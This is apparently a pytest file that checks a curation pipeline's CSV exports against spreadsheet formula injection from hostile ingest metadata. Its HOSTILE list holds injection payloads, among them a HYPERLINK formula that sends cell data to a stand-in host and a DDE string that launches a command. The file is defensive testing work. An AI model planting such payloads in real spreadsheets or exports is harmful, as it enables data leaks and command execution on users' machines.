"""No formulas in the spreadsheets we write for people: hostile ingest metadata (a platform, an
uploader) reaches the export's CSV files neutralised, while its parquet manifest, and the model's
reader, keep the raw text."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from curation.aggregation import resolve
from curation.judgements import load_judgements
from curation.spreadsheet import FORMULA_STARTS, neutralise_cell, neutralise_frame
from curation.variants import build_variants, candidate_clips
from tests.curation.variants_fixtures import LABELS, make_inputs, make_media

HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_formula_start_is_neutralised(text: str) -> None:
    assert neutralise_cell(text) == "'" + text
    assert text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["Douyin", "a=b", "e-mail", "", 3, -1.5, None])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert neutralise_cell(value) == value


def test_frames_keep_numbers_and_missing_values() -> None:
    frame = pd.DataFrame({"text": ["=1", None, "ok"], "n": [-1, 0, 2], "x": [-0.5, float("nan"), 1.0]})
    out = neutralise_frame(frame)
    assert out["text"].tolist()[0] == "'=1" and pd.isna(out["text"].tolist()[1]) and out["text"].tolist()[2] == "ok"
    assert out["n"].tolist() == [-1, 0, 2] and out["x"].dtype == float
    assert frame["text"].tolist()[0] == "=1"  # the input is not changed


def test_hostile_ingest_metadata_is_neutralised_in_the_exports_csv(tmp_path: Path) -> None:
    media = tmp_path / "media"
    media.mkdir()
    make_media(media, 2)
    judgements, clips = make_inputs(60, media_files=["src0.mp4", "src1.mp4"], seed=2)
    # What `curate ingest` stores from a hostile CSV list: platform and uploader as given.
    clips["platform"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(clips))]
    clips["uploader"] = "@" + clips["uploader"].astype(str)
    judgements = load_judgements(judgements, labels=LABELS)
    candidates = candidate_clips(clips, resolve(judgements, labels=LABELS), LABELS)
    out = tmp_path / "exports"
    build_variants(candidates, LABELS, out, seed=1, media_root=media, judgements=judgements,
                   inputs={"judgements": {"sha256": "abc"}})
    export = out / "full"
    sheets = [export / "manifest.csv", *sorted(export.glob("*/metadata.csv"))]
    assert len(sheets) >= 2
    seen = 0
    for sheet in sheets:
        with sheet.open(newline="", encoding="utf-8") as handle:
            for row in csv.DictReader(handle):
                for column, cell in row.items():
                    assert not cell.startswith(FORMULA_STARTS), f"{sheet.name}: {column} = {cell!r}"
                # (the clips table strips surrounding blanks: "\t=1+1" arrives as "=1+1")
                assert row["platform"] in {"'" + h.strip() for h in HOSTILE}
                seen += 1
    assert seen > 0
    raw = pd.read_parquet(export / "manifest.parquet")
    assert set(raw["platform"]) <= {h.strip() for h in HOSTILE} and raw["platform"].str.startswith(FORMULA_STARTS).all()

    from model.export_reader import read_export  # the model reads the raw labels and paths

    table = read_export(export)
    assert len(table.clips) == len(raw)
